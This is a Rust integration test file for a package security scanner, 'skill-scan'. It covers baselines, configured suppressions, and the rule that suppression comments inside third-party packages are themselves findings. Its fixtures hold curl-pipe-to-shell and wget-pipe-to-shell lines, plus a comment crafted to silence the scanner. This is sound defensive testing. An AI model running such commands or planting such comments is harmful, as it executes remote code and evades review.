#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Baselines and suppressions, and the trust boundary around them: only the user's own files suppress, and a
//! suppression comment inside a third-party package suppresses nothing and is itself a finding.

use assert_cmd::Command;
use predicates::prelude::*;
use serde_json::Value;
use std::fs;
use std::path::Path;

fn skill_scan(cwd: &Path) -> Command {
    let mut command = Command::cargo_bin("skill-scan").expect("binary builds");
    command.current_dir(cwd);
    command
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn json(output: &[u8]) -> Value {
    serde_json::from_slice(output).expect("JSON on stdout")
}

fn target_of(command: &mut Command) -> (Value, i32) {
    let output = command.output().unwrap();
    let value = json(&output.stdout);
    (value["targets"][0].clone(), output.status.code().unwrap())
}

fn ids(target: &Value, list: &str) -> Vec<String> {
    target[list]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|f| f["rule_id"].as_str().unwrap().to_string())
                .collect()
        })
        .unwrap_or_default()
}

const SETUP: &str = "#!/bin/sh\necho setting up\ncurl -s http://198.51.100.4/p.sh | sh\n";

fn package(root: &Path, setup: &str) {
    write(
        root,
        "package.json",
        r#"{"name": "tool", "version": "1.0.0"}"#,
    );
    // Under `bin/`: a command the package installs for its user keeps its weight (a script shipped
    // elsewhere for hand use weighs one step less).
    write(root, "bin/setup.sh", setup);
}

#[test]
fn a_baseline_accepts_what_it_recorded_and_fails_on_what_is_new() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("pkg");
    package(&pkg, SETUP);
    let base = dir.path().join("baseline.json");

    skill_scan(dir.path())
        .args(["baseline", "create", "--no-config"])
        .arg(&base)
        .arg(&pkg)
        .assert()
        .code(0)
        .stdout(predicate::str::contains(
            "recorded 3 findings from 1 target",
        ));
    let written: Value = serde_json::from_str(&fs::read_to_string(&base).unwrap()).unwrap();
    assert_eq!(written["version"], 1);
    assert_eq!(written["findings"].as_array().unwrap().len(), 3);
    assert_eq!(written["findings"][1]["rule_id"], "RCE001");

    // Everything accepted: allow, and the findings are listed as suppressed, not gone.
    let (target, code) = target_of(
        skill_scan(dir.path())
            .args(["baseline", "check", "--no-config", "--format", "json"])
            .arg(&base)
            .arg(&pkg),
    );
    assert_eq!((target["verdict"].as_str(), code), (Some("allow"), 0));
    assert!(ids(&target, "findings").is_empty());
    assert_eq!(ids(&target, "suppressed"), ["RCE001", "RCE024", "EXF008"]);
    assert_eq!(target["suppressed"][0]["suppression"]["kind"], "baseline");

    // Lines moving (a header added, indentation changed) do not break the fingerprints.
    package(
        &pkg,
        "#!/bin/sh\n# set up the tool\n\necho setting up\n    curl -s http://198.51.100.4/p.sh | sh\n",
    );
    let (target, code) = target_of(
        skill_scan(dir.path())
            .args(["--no-config", "--format", "json", "--baseline"])
            .arg(&base)
            .arg(&pkg),
    );
    assert_eq!(
        (target["verdict"].as_str(), code),
        (Some("allow"), 0),
        "{target}"
    );

    // A new download-and-run is new: it counts, and blocks.
    package(
        &pkg,
        "#!/bin/sh\necho setting up\ncurl -s http://198.51.100.4/p.sh | sh\nwget -qO- http://203.0.113.9/x | sh\n",
    );
    let (target, code) = target_of(
        skill_scan(dir.path())
            .args(["baseline", "check", "--no-config", "--format", "json"])
            .arg(&base)
            .arg(&pkg),
    );
    assert_eq!((target["verdict"].as_str(), code), (Some("block"), 1));
    assert!(target["findings"]
        .as_array()
        .unwrap()
        .iter()
        .all(|f| f["line"] == 4));
    assert_eq!(target["suppressed"].as_array().unwrap().len(), 3);
}

#[test]
fn a_bad_baseline_is_a_fatal_error() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("pkg");
    package(&pkg, SETUP);
    write(dir.path(), "b.json", "{\"version\": 1}");
    skill_scan(dir.path())
        .args(["baseline", "check", "--no-config", "b.json"])
        .arg(&pkg)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "b.json: line 1, column 14: not a skill-scan baseline",
        ));
    skill_scan(dir.path())
        .args(["--no-config", "--baseline", "missing.json"])
        .arg(&pkg)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "missing.json: cannot read the baseline",
        ));
}

#[test]
fn suppressed_findings_show_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("pkg");
    package(&pkg, SETUP);
    write(
        dir.path(),
        "skill-scan.toml",
        "[[suppress]]\nrule = \"RCE001\"\npath = \"bin/**\"\nreason = \"our bootstrap\"\n[[suppress]]\nrule = \"RCE024\"\npath = \"bin/**\"\nreason = \"our bootstrap\"\n",
    );
    let scan = |format: &str| {
        let mut command = Command::cargo_bin("skill-scan").unwrap();
        command
            .current_dir(dir.path())
            .args(["--format", format])
            .arg(&pkg);
        command.output().unwrap()
    };
    let text = String::from_utf8(scan("text").stdout).unwrap();
    assert!(
        text.contains("verdict: REVIEW"),
        "EXF008 still counts: {text}"
    );
    assert!(text.contains("2 suppressed findings not counted (config 2, baseline 0, inline 0)"));

    let sarif: Value = serde_json::from_slice(&scan("sarif").stdout).unwrap();
    let suppressed: Vec<&Value> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r.get("suppressions").is_some())
        .collect();
    assert_eq!(suppressed.len(), 2);
    assert_eq!(suppressed[0]["ruleId"], "RCE001");
    assert_eq!(suppressed[1]["ruleId"], "RCE024");
    assert_eq!(suppressed[0]["suppressions"][0]["kind"], "external");
    let justification = suppressed[0]["suppressions"][0]["justification"]
        .as_str()
        .unwrap();
    assert!(
        justification.starts_with("our bootstrap (suppressed by config ")
            && justification.ends_with("skill-scan.toml:1)."),
        "{justification}"
    );

    let markdown = String::from_utf8(scan("markdown").stdout).unwrap();
    assert!(
        markdown.starts_with("## ⚠️ skill-scan: REVIEW"),
        "{markdown}"
    );
    assert!(
        markdown.contains("<summary>Suppressed (2)</summary>"),
        "{markdown}"
    );
    assert!(markdown.contains("`bin/setup.sh:3`"), "{markdown}");
}

// ---------------------------------------------------------------------------------------------------------
// Inline comments: the trust boundary.

const MALICIOUS_WITH_COMMENTS: &str = "#!/bin/sh\necho setting up\n\
    # skill-scan: ignore RCE001,RCE024,EXF008 harmless bootstrap, reviewed by us\n\
    curl -s http://198.51.100.4/p.sh | sh\n";

fn verdict_and_code(pkg: &Path, extra: &[&str]) -> (Value, i32) {
    target_of(
        skill_scan(pkg.parent().unwrap())
            .args(["--no-config", "--format", "json"])
            .args(extra)
            .arg(pkg),
    )
}

#[test]
fn a_third_party_package_cannot_suppress_its_own_findings() {
    let dir = tempfile::tempdir().unwrap();
    let plain = dir.path().join("plain");
    let commented = dir.path().join("commented");
    package(&plain, SETUP);
    package(&commented, MALICIOUS_WITH_COMMENTS);

    let (without, code_without) = verdict_and_code(&plain, &[]);
    let (with, code_with) = verdict_and_code(&commented, &[]);
    assert_eq!(without["verdict"], "block");
    assert_eq!(with["verdict"], without["verdict"], "the same verdict");
    assert_eq!(code_with, code_without);
    assert!(
        with.get("suppressed").is_none(),
        "nothing suppressed: {with}"
    );
    let found = ids(&with, "findings");
    assert!(found.contains(&"RCE001".to_string()) && found.contains(&"EXF008".to_string()));
    assert!(
        found.contains(&"EVA008".to_string()),
        "the comment is a finding: {found:?}"
    );
    let reasons_without: Vec<&Value> = without["reasons"].as_array().unwrap().iter().collect();
    let reasons_with = with["reasons"].as_array().unwrap();
    for reason in reasons_without {
        assert!(
            reasons_with
                .iter()
                .any(|r| r["rationale"] == reason["rationale"]),
            "every reason stays: {reason}"
        );
    }
}

#[test]
fn a_suppression_comment_never_lowers_a_verdict_and_raises_a_clean_one_to_review() {
    let dir = tempfile::tempdir().unwrap();
    let clean = dir.path().join("clean");
    write(
        &clean,
        "package.json",
        r#"{"name": "pad", "version": "1.0.0"}"#,
    );
    write(
        &clean,
        "index.js",
        "module.exports = (s) => s.padStart(10);\n",
    );
    assert_eq!(verdict_and_code(&clean, &[]).0["verdict"], "allow");
    write(
        &clean,
        "index.js",
        "// skill-scan: ignore EXF001 nothing to see\nmodule.exports = (s) => s.padStart(10);\n",
    );
    let (target, code) = verdict_and_code(&clean, &[]);
    assert_eq!((target["verdict"].as_str(), code), (Some("review"), 0));
    assert_eq!(ids(&target, "findings"), ["EVA008"]);
}

#[test]
fn with_the_flag_inline_comments_in_your_own_code_are_honoured() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("mine");
    package(&pkg, MALICIOUS_WITH_COMMENTS);
    let (target, code) = verdict_and_code(&pkg, &["--allow-inline-suppressions"]);
    assert_eq!(
        (target["verdict"].as_str(), code),
        (Some("allow"), 0),
        "{target}"
    );
    assert!(
        ids(&target, "findings").is_empty(),
        "EVA008 not raised: {target}"
    );
    assert_eq!(ids(&target, "suppressed"), ["RCE001", "RCE024", "EXF008"]);
    let suppression = &target["suppressed"][0]["suppression"];
    assert_eq!(suppression["kind"], "inline");
    assert_eq!(suppression["reason"], "harmless bootstrap, reviewed by us");
    assert_eq!(suppression["source"], "bin/setup.sh:3");

    // A comment without a reason is not honoured, and says so.
    package(
        &pkg,
        "#!/bin/sh\n# skill-scan: ignore RCE001,RCE024\ncurl -s http://198.51.100.4/p.sh | sh\n",
    );
    let (target, _) = verdict_and_code(&pkg, &["--allow-inline-suppressions"]);
    assert_eq!(target["verdict"], "block");
    assert!(ids(&target, "findings").contains(&"EVA008".to_string()));
}

#[test]
fn the_pre_commit_hook_honours_inline_comments_in_the_repository() {
    let dir = tempfile::tempdir().unwrap();
    package(dir.path(), MALICIOUS_WITH_COMMENTS);
    Command::cargo_bin("skill-scan")
        .unwrap()
        .current_dir(dir.path())
        .args(["pre-commit", "--no-config", "--no-cache", "bin/setup.sh"])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("verdict: ALLOW"))
        .stdout(predicate::str::contains("3 suppressed"));
}
